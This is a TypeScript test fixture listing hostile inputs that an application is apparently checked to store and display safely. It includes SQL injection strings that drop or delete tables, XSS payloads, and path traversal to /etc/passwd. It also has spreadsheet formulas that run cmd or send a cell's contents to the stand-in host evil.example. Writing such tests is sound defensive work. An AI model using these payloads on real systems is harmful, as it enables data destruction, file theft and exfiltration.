// Hostile text (issue 4 "Injection and scripting"): SQL injection, scripts, path traversal, spreadsheet
// formulas, rare and tricky Unicode and sizes at the field limits. Each entry is valid input — the
// point is that it is stored and shown as text, never run. The XSS entries set window.__xss, which a
// browser test asserts stays undefined (e2e/hostile.test.ts).
export interface Payload {
  kind: 'sql' | 'xss' | 'path' | 'formula' | 'unicode';
  text: string;
}

export const XSS_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg/onload=window.__xss=3>',
  '"><iframe srcdoc="<script>parent.__xss=4</script>"></iframe>',
  "javascript:window.__xss=5",
  "</textarea><script>window.__xss=6</script>",
  "{{constructor.constructor('window.__xss=7')()}}",
  '<a href="javascript:window.__xss=8">点我</a>',
];

export const FORMULA_PAYLOADS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'];

export const CORPUS: Payload[] = [
  { kind: 'sql', text: "' OR '1'='1" },
  { kind: 'sql', text: "'; DROP TABLE hazards; --" },
  { kind: 'sql', text: '1); DELETE FROM users WHERE (1=1' },
  { kind: 'sql', text: '" OR ""="' },
  { kind: 'sql', text: "%' AND 1=1 --" },
  { kind: 'sql', text: "\\'; SELECT pg_sleep(5); --" },
  { kind: 'sql', text: '$1::text $$ E\'\\x27\' /* */' },
  ...XSS_PAYLOADS.map((text) => ({ kind: 'xss' as const, text })),
  { kind: 'path', text: '../../../../etc/passwd' },
  { kind: 'path', text: '..\\..\\..\\windows\\win.ini' },
  { kind: 'path', text: '%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
  ...FORMULA_PAYLOADS.map((text) => ({ kind: 'formula' as const, text })),
  { kind: 'unicode', text: '𠀀𪚥𫝀测试🏦 👨‍👩‍👧‍👦' },
  { kind: 'unicode', text: '\u202Egnp.exe 右至左覆盖' },
  { kind: 'unicode', text: 'a\u200Bb\u200Dc\uFEFFd 零宽字符' },
  { kind: 'unicode', text: 'e\u0301\u0301\u0301 Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇' },
  { kind: 'unicode', text: 'ﷺ ﷽ 𒐫 Ⅻ ㊙ ＜script＞' },
];

/** A text of exactly `n` code points, all outside the Basic Multilingual Plane (4 bytes in UTF-8, 2 UTF-16 units). */
export const astral = (n: number) => '𪚥'.repeat(n);
